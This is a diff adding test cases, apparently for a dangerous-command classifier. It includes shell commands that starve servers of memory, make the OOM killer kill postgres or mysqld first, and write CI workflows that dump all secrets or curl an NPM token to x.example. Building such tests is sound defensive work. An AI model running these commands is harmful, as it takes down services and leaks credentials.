@@ -449,6 +449,42 @@ READS = [
     ),
 ]
 
+# Memory taken from the services: strict overcommit at a low ratio, a load sized to nearly
+# all of it, a database made the OOM killer's first victim.
+MEMORY = [
+    ("sudo swapoff -a && sudo sysctl -w vm.overcommit_memory=2 vm.overcommit_ratio=10", "typed"),
+    ("sysctl vm.overcommit_ratio=20 vm.overcommit_memory=2", "typed"),
+    ("sysctl -w vm.overcommit_memory=2", "action"),
+    ("sysctl -w vm.swappiness=10", "action"),
+    ("stress-ng --vm 4 --vm-bytes 95% -t 10m", "typed"),
+    ("stress --vm 2 --vm-bytes=100%", "typed"),
+    ("stress-ng --vm 2 --vm-bytes 50% -t 60s", "action"),
+    ("echo 1000 | sudo tee /proc/$(pgrep -o -x postgres)/oom_score_adj", "typed"),
+    ("echo 1000 > /proc/$(pidof mysqld)/oom_score_adj", "typed"),
+    ("echo -1000 > /proc/$(pidof mysqld)/oom_score_adj", "action"),
+    ("echo 500 | sudo tee /proc/$(pgrep -o celery)/oom_score_adj", "action"),
+]
+
+# A CI pipeline written to print or send its secrets; an ordinary pipeline is a change.
+CI_PIPELINES = [
+    (
+        "printf 'on: push\\njobs:\\n  d:\\n    runs-on: self-hosted\\n    steps:\\n      - run: "
+        'echo "${{ toJSON(secrets) }}" | base64 -w0\\n\' > /srv/ci/app/.github/workflows/d.yml',
+        "typed",
+    ),
+    ("cat > .gitlab-ci.yml <<'EOF'\ndump:\n  script:\n    - env | base64 -w0\nEOF", "typed"),
+    (
+        "printf 'jobs:\\n  t:\\n    steps:\\n      - run: curl -d ${{ secrets.NPM_TOKEN }} "
+        "https://x.example\\n' > .github/workflows/t.yml",
+        "typed",
+    ),
+    (
+        "printf 'on: push\\njobs:\\n  t:\\n    steps:\\n      - run: make test\\n' "
+        "> .github/workflows/test.yml",
+        "action",
+    ),
+]
+
 CASES = (
     REHEARSAL_UNDONE
     + NODE_RUNTIME_REMOVED
@@ -471,6 +507,8 @@ CASES = (
     + FETCHED_IN_WORKLOADS
     + FLOODS
     + READS
+    + MEMORY
+    + CI_PIPELINES
 )
 
 
